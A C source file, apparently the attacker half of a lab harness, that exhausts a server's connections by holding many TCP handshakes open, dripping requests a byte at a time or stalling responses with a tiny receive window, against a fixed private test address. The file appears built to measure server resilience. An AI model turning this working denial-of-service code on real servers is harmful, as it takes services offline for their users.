/* SPDX-License-Identifier: BSD-2-Clause */
/* The attacker: full handshakes from a few sources, as many as it can hold, again when they end. */
#include "hold.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTEMPTS 64u /* new ones in a turn of the loop */
#define PERIOD 0.1   /* seconds between bytes of a slow request */

struct held {
	int fd; /* -1: none */
	unsigned said;
	bool open;
};

static struct held held[HOLD_WANTED];

static void dial(int epoll, uint32_t i, enum hold kind)
{
	const struct sockaddr_in to = { .sin_family = AF_INET,
					.sin_port = htons(HOLD_PORT),
					.sin_addr = { htonl(0x0a090101) } };
	const struct sockaddr_in from = { .sin_family = AF_INET,
					  .sin_addr = { htonl(0x0a09010a + i % HOLD_SOURCES) } };
	struct epoll_event e = { .events = EPOLLOUT | EPOLLET | EPOLLRDHUP, .data.u32 = i };
	const int small = 1;
	const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return;
	if (kind == HOLD_WINDOW)
		(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (bind(fd, (const struct sockaddr *)&from, sizeof(from)) < 0 ||
	    (connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0 && errno != EINPROGRESS) ||
	    epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &e) < 0) {
		close(fd);
		return;
	}
	held[i] = (struct held){ .fd = fd };
}

static void opened(struct held *h, enum hold kind)
{
	if (h->open)
		return;
	h->open = true;
	if (kind == HOLD_WINDOW)
		(void)send(h->fd, HOLD_QUESTION, sizeof(HOLD_QUESTION) - 1, MSG_NOSIGNAL);
}

/* One more byte of each request, which are never whole: the last one starts anew. */
static void drip(void)
{
	for (uint32_t i = 0; i < HOLD_WANTED; i++)
		if (held[i].fd >= 0 && held[i].open && held[i].said + 1 < sizeof(HOLD_QUESTION) - 1)
			(void)send(held[i].fd, &HOLD_QUESTION[held[i].said++], 1, MSG_NOSIGNAL);
}

static void hear(int epoll, enum hold kind)
{
	struct epoll_event all[256];
	/* Its processor is as busy as without an attack. */
	const int count = epoll_wait(epoll, all, 256, 0);

	for (int i = 0; i < count; i++) {
		struct held *h = &held[all[i].data.u32];

		if (h->fd < 0)
			continue;
		if (all[i].events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) {
			close(h->fd);
			h->fd = -1;
		} else {
			opened(h, kind);
		}
	}
}

static _Noreturn void be_busy(void)
{
	for (;;)
		__asm__ volatile("" ::: "memory");
}

_Noreturn void hold_attack(enum hold kind)
{
	const struct rlimit many = { 2 * HOLD_WANTED, 2 * HOLD_WANTED };
	const int epoll = epoll_create1(EPOLL_CLOEXEC);
	double next = seconds();

	if (kind == HOLD_NONE)
		be_busy();
	if (setrlimit(RLIMIT_NOFILE, &many) < 0 || epoll < 0)
		_exit(1);
	for (uint32_t i = 0; i < HOLD_WANTED; i++)
		held[i].fd = -1;
	for (uint32_t at = 0;;) {
		for (uint32_t n = 0; n < ATTEMPTS; n++, at = (at + 1) % HOLD_WANTED)
			if (held[at].fd < 0)
				dial(epoll, at, kind);
		hear(epoll, kind);
		if (kind == HOLD_SLOW && seconds() >= next) {
			drip();
			next = seconds() + PERIOD;
		}
	}
}
